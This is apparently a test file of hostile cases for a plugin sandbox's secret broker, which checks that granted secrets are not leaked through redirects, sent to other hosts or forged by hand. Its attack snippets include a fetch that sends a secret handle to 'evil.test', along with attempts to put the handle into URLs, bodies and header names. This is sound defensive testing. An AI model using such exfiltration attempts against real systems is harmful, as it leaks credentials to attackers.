import { expect } from "vitest";
import { installed, PROBE, withSites } from "../authority.testing.ts";
import { both, by, type HostileCase } from "../case.ts";

const REFUSED = by("egress", "PLINTH_PERMISSION");

/** A secret goes where it was granted to go, and is never shown. */
export const cases: HostileCase[] = [
  {
    id: "net-secret-redirect",
    tries: "has a granted host send its request with a secret on to another one",
    phase: "call",
    stopped: both(by("inert", "none")),
    attack: ({ facts, ...attack }) =>
      withSites(async (first, second) => {
        const url = `${first.url}/307?${encodeURIComponent(`${second.url}/`)}`;
        await installed(attack, {
          manifest: { permissions: { net: [first.host, second.host], secrets: [facts.envName] } },
          code: `
            const handle = ctx.secrets.handle(${JSON.stringify(facts.envName)});
            const headers = { authorization: "Bearer " + handle, "x-api-key": handle, cookie: "a=" + handle, accept: handle };
            const answer = await ctx.fetch(${JSON.stringify(url)}, { headers });
            return say("status " + answer.status);`,
        });
        const found = await attack.call();
        // The one that was granted the secret has it; it does not travel with the redirect.
        expect(JSON.stringify(first.seen)).toContain(facts.canaries[1]);
        expect(second.seen.length).toBe(1);
        expect(JSON.stringify(second.seen)).not.toContain(facts.canaries[1]);
        return found;
      }),
    blameless: true,
  },
  {
    id: "net-secret-elsewhere",
    tries: "sends a secret that it was granted to a host that it was not",
    phase: "call",
    stopped: both(REFUSED),
    top: PROBE,
    parts: ({ envName, loopbackUrl }) => ({
      manifest: { permissions: { net: ["api.example.com"], secrets: [envName] } },
      code: `
        const headers = { authorization: ctx.secrets.handle(${JSON.stringify(envName)}) };
        return probe({ loopback: () => ctx.fetch(${JSON.stringify(`${loopbackUrl}/net-secret-elsewhere`)}, { headers }), other: () => ctx.fetch("http://evil.test/", { headers }) });`,
    }),
    blameless: true,
  },
  {
    id: "net-secret-of-others",
    tries: "writes handles of secrets that it was not granted by hand",
    phase: "call",
    stopped: both(by("broker", "PLINTH_PERMISSION")),
    attack: ({ facts, ...attack }) =>
      withSites(async (granted) => {
        await installed(attack, {
          manifest: { permissions: { net: [granted.host], secrets: ["MY_OWN_KEY"] } },
          top: PROBE,
          code: `
            const send = (value) => () => ctx.fetch(${JSON.stringify(granted.url)}, { headers: { authorization: value } }).then(({ status }) => status);
            return probe({
              handle: () => ctx.secrets.handle(${JSON.stringify(facts.envName)}), has: () => ctx.secrets.has(${JSON.stringify(facts.envName)}),
              written: send("{{plinth-secret:${facts.envName}}}"), beside: send("{{plinth-secret:${facts.envName}}} {{plinth-secret:MY_OWN_KEY}}"),
              nested: send("{{plinth-secret:{{plinth-secret:${facts.envName}}}}}"), missing: send("{{plinth-secret:MY_OWN_KEY}}"),
            });`,
        });
        const found = await attack.call();
        expect(granted.seen).toEqual([]);
        // The SDK refuses the first one early; it is the broker's word that counts.
        expect(found.message).toContain("PLINTH_PERMISSION");
        return { ...found, code: "PLINTH_PERMISSION", by: "broker" };
      }),
    blameless: true,
  },
  {
    id: "net-secret-in-url",
    tries: "puts the handle of its secret where it would be shown: into the address, the body, a header's name",
    phase: "call",
    stopped: both(by("inert", "none")),
    attack: ({ facts, ...attack }) =>
      withSites(async (granted) => {
        await installed(attack, {
          manifest: { permissions: { net: [granted.host], secrets: [facts.envName] } },
          code: `
            const handle = ctx.secrets.handle(${JSON.stringify(facts.envName)});
            const status = [];
            const send = async (url, options) => status.push(await ctx.fetch(url, options).then((answer) => answer.status, (thrown) => thrown.code));
            await send(${JSON.stringify(granted.url)} + "/" + encodeURIComponent(handle) + "?key=" + handle);
            await send(${JSON.stringify(granted.url)}, { method: "POST", body: "key=" + handle });
            await send(${JSON.stringify(granted.url)}, { headers: { [handle]: "x" } });
            return say(status.join());`,
        });
        const found = await attack.call();
        expect(JSON.stringify(granted.seen)).toContain("plinth-secret");
        expect(JSON.stringify(granted.seen)).not.toContain(facts.canaries[1]);
        return found;
      }),
    blameless: true,
  },
];
